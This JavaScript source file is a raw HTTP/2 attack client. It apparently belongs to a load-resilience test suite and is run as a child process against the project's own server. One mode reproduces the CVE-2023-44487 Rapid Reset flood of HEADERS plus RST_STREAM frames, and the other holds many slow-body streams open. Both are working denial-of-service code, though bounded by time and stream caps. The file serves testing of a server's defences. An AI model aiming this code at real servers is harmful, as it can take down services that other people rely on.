// An HTTP/2 attacker written frame by frame, run as a child process (node h2RawAttacker.mjs
// '<options as JSON>') so that its own work does not share the event loop of the server it
// attacks. Plain JavaScript: the child starts with `node` alone, no compiler.
//
//   mode "reset":    each connection sends HEADERS (END_STREAM) and RST_STREAM(CANCEL) for `batch`
//                    streams at a time, as CVE-2023-44487 does, until the server sends GOAWAY or
//                    `maxStreams` are sent; with `reconnect`, it then opens a new connection.
//   mode "slowBody": each connection opens `streams` streams (POST unless `method` says) and sends one body byte per
//                    stream every `everyMillis`, never END_STREAM.
//
// Every loop is bounded: `maxMillis` ends the run whatever happens, and "stop" on stdin ends it
// early (a closed stdin does not: a run by hand may have none). Progress lines and the final report are JSON on stdout, one object per line.
import * as net from "node:net"

const options = JSON.parse(process.argv[2] ?? "{}")
const target = new URL(options.url)
const started = Date.now()

const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const header = Buffer.alloc(9)
  header.writeUIntBE(payload.length, 0, 3)
  header[3] = type
  header[4] = flags
  header.writeUInt32BE(stream, 5)
  return Buffer.concat([header, payload])
}
const u32 = (value) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

// A large window, so that the server's answers (503 bodies, say) never wait on our flow control;
// no HPACK dynamic table (SETTINGS_HEADER_TABLE_SIZE 0), so that every :status arrives readable.
const preface = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  frame(4, 0, 0, Buffer.from([0, 4, ...u32(1 << 24), 0, 1, ...u32(0)])),
  frame(8, 0, 0, u32(1 << 30))
])

// HPACK, literal fields without indexing and without Huffman: what any decoder must accept.
const literal = (name, value) => {
  if (name.length > 126 || value.length > 126) throw new Error(`field too long for this encoder: ${name}`)
  return Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)])
}
const headerBlock = (method, path) =>
  Buffer.concat([
    literal(":method", method),
    literal(":scheme", "http"),
    literal(":path", path),
    literal(":authority", target.host),
    ...(method === "GET" ? [] : [literal("content-type", "application/json")]),
    ...(options.token === undefined ? [] : [literal("authorization", `Bearer ${options.token}`)])
  ])

const randomId = () => crypto.randomUUID()

// The Huffman codes of the digits (RFC 7541, Appendix B), enough to read a :status.
const huffmanDigits = [
  ["00000", "0"], ["00001", "1"], ["00010", "2"], ["011001", "3"], ["011010", "4"],
  ["011011", "5"], ["011100", "6"], ["011101", "7"], ["011110", "8"], ["011111", "9"]
]
const staticStatus = { 8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500 }
/** The :status of a response's header block, which servers send first; undefined if unreadable. */
const statusOf = (whole) => {
  // Dynamic table size updates (001xxxxx) may come first, as ours to 0 does once.
  let start = 0
  while (start < whole.length && (whole[start] & 0xe0) === 0x20) start++
  const block = whole.subarray(start)
  const first = block[0]
  if (first === undefined) return undefined
  if (first & 0x80) return staticStatus[first & 0x7f]
  const nameIndex = first & 0x40 ? first & 0x3f : first & 0x0f
  if (!(nameIndex >= 8 && nameIndex <= 14)) return undefined
  const length = block[1] & 0x7f
  const value = block.subarray(2, 2 + length)
  if (!(block[1] & 0x80)) return Number(value.toString("latin1"))
  let bits = [...value].map((byte) => byte.toString(2).padStart(8, "0")).join("")
  let digits = ""
  while (digits.length < 3) {
    const match = huffmanDigits.find(([code]) => bits.startsWith(code))
    if (match === undefined) return undefined
    digits += match[1]
    bits = bits.slice(match[0].length)
  }
  return Number(digits)
}

/** Reads frames off a socket: calls `onFrame(type, flags, stream, payload)` for each. */
const frameReader = (socket, onFrame) => {
  let pending = Buffer.alloc(0)
  socket.on("data", (chunk) => {
    pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk])
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3)
      if (pending.length < 9 + length) break
      onFrame(pending[3], pending[4], pending.readUInt32BE(5) & 0x7fffffff, pending.subarray(9, 9 + length))
      pending = pending.subarray(9 + length)
    }
  })
}

/** Answers the server's SETTINGS and PINGs, as any client must; notes its GOAWAY. */
const connection = (onFrame) => {
  const state = { goaway: undefined, closed: false, socket: undefined }
  const socket = net.connect(Number(target.port), target.hostname, () => socket.write(preface))
  state.socket = socket
  socket.setNoDelay(true)
  socket.on("error", () => {})
  socket.on("close", () => (state.closed = true))
  frameReader(socket, (type, flags, stream, payload) => {
    if (process.env.H2_ATTACKER_DEBUG) process.stderr.write(`frame ${type} flags ${flags} stream ${stream} ${type === 7 ? payload.toString("hex") : payload.length}\n`)
    if (type === 4 && !(flags & 1) && !socket.destroyed) socket.write(frame(4, 1, 0))
    if (type === 6 && !(flags & 1) && !socket.destroyed) socket.write(frame(6, 1, 0, payload))
    if (type === 7 && state.goaway === undefined) {
      state.goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, code: payload.readUInt32BE(4) }
    }
    onFrame(type, flags, stream, payload)
  })
  return state
}

const stopping = new Promise((resolve) => {
  const timer = setTimeout(resolve, options.maxMillis ?? 30_000)
  process.stdin.on("data", (text) => String(text).includes("stop") && resolve(clearTimeout(timer)))
})
let stopped = false
stopping.then(() => (stopped = true))
const report = (object) => process.stdout.write(`${JSON.stringify(object)}\n`)
const sleep = (millis) => new Promise((resolve) => setTimeout(resolve, millis))

/** One connection's rapid reset: batches of HEADERS + RST_STREAM until GOAWAY, the cap, or stop. */
const resetConnection = async () => {
  const state = connection(() => {})
  await new Promise((resolve) => state.socket.once("connect", resolve).once("close", resolve))
  let next = 1
  const batch = options.batch ?? 100
  const maxStreams = options.maxStreams ?? 50_000
  while (!stopped && !state.closed && state.goaway === undefined && (next - 1) / 2 < maxStreams) {
    const frames = []
    for (let i = 0; i < batch; i++, next += 2) {
      frames.push(frame(1, 0x5, next, headerBlock("GET", options.path ?? `/orgs/${randomId()}`)), frame(3, 0, next, u32(8)))
    }
    // Waits for the socket to drain, as a client that does not want to buffer without bound.
    if (!state.socket.write(Buffer.concat(frames))) {
      await Promise.race([stopping, new Promise((resolve) => state.socket.once("drain", resolve).once("close", resolve))])
    }
    else await new Promise((resolve) => setImmediate(resolve))
  }
  // A moment for a GOAWAY already on its way, then the connection is ours to drop.
  if (state.goaway === undefined && !state.closed) await sleep(200)
  state.socket.destroy()
  const sent = (next - 1) / 2
  return { sent, processed: state.goaway === undefined ? sent : Math.min(sent, (state.goaway.lastStreamId + 1) / 2), goaway: state.goaway }
}

const resetAttack = async () => {
  const attacker = async () => {
    const sessions = []
    do {
      const session = await resetConnection()
      sessions.push(session)
      report({ session: sessions.length, sent: session.sent, goaway: session.goaway ?? null })
      // A server that no longer accepts (or never did) ends this attacker rather than spinning.
      if (session.sent === 0) break
    } while (options.reconnect === true && !stopped && sessions.length < (options.maxReconnects ?? 10_000))
    return sessions
  }
  const perAttacker = await Promise.all(Array.from({ length: options.connections ?? 4 }, attacker))
  const sessions = perAttacker.flat()
  report({
    done: true,
    millis: Date.now() - started,
    sessions: sessions.length,
    sent: sessions.reduce((sum, s) => sum + s.sent, 0),
    processed: sessions.reduce((sum, s) => sum + s.processed, 0),
    goawayCodes: sessions.map((s) => s.goaway?.code ?? null),
    firstSessions: sessions.slice(0, options.connections ?? 4)
  })
}

/** Many slow-body streams per connection; each stream's fate: still open, answered, reset. */
const slowBodyAttack = async () => {
  const perConnection = options.streams ?? 100
  const fates = []
  const goaways = []
  const states = await Promise.all(Array.from({ length: options.connections ?? 11 }, async () => {
    const streams = new Map()
    const state = connection((type, flags, stream, payload) => {
      const fate = streams.get(stream)
      if (fate === undefined) return
      if (type === 1 && fate.status === undefined) fate.status = statusOf(payload) ?? "unread"
      if (type === 3) fate.reset = payload.readUInt32BE(0)
      if ((type === 0 || type === 1) && flags & 1) fate.ended = true
    })
    await new Promise((resolve) => state.socket.once("connect", resolve).once("close", resolve))
    const frames = []
    for (let i = 0, id = 1; i < perConnection; i++, id += 2) {
      const fate = { status: undefined, reset: undefined, ended: false }
      streams.set(id, fate)
      fates.push(fate)
      frames.push(frame(1, 0x4, id, headerBlock(options.method ?? "POST", options.path ?? `/orgs/${randomId()}`)), frame(0, 0, id, Buffer.from("{")))
    }
    if (!state.socket.destroyed) state.socket.write(Buffer.concat(frames))
    return { state, streams }
  }))
  const counts = () => {
    const byOutcome = {}
    for (const fate of fates) {
      const outcome = fate.reset !== undefined
        ? `reset ${fate.reset}${fate.status === undefined ? "" : ` after ${fate.status}`}`
        : fate.status !== undefined ? `answered ${fate.status}${fate.ended ? "" : " (open)"}` : "open"
      byOutcome[outcome] = (byOutcome[outcome] ?? 0) + 1
    }
    const closed = states.filter((s) => s.state.closed).length
    for (const s of states) if (s.state.goaway !== undefined && !goaways.includes(s.state)) goaways.push(s.state)
    return { streams: fates.length, byOutcome, connectionsClosed: closed, goawayCodes: goaways.map((s) => s.goaway.code) }
  }
  report({ opened: fates.length, ...counts() })
  const dribble = setInterval(() => {
    for (const { state, streams } of states) {
      if (state.socket.destroyed) continue
      const frames = []
      for (const [id, fate] of streams) if (fate.reset === undefined && !fate.ended) frames.push(frame(0, 0, id, Buffer.from(" ")))
      if (frames.length > 0) state.socket.write(Buffer.concat(frames))
    }
  }, options.everyMillis ?? 5_000)
  const progress = setInterval(() => report({ millis: Date.now() - started, ...counts() }), 250)
  await stopping
  clearInterval(dribble)
  clearInterval(progress)
  report({ done: true, millis: Date.now() - started, ...counts() })
  for (const { state } of states) state.socket.destroy()
}

await (options.mode === "reset" ? resetAttack() : slowBodyAttack())
process.exit(0)
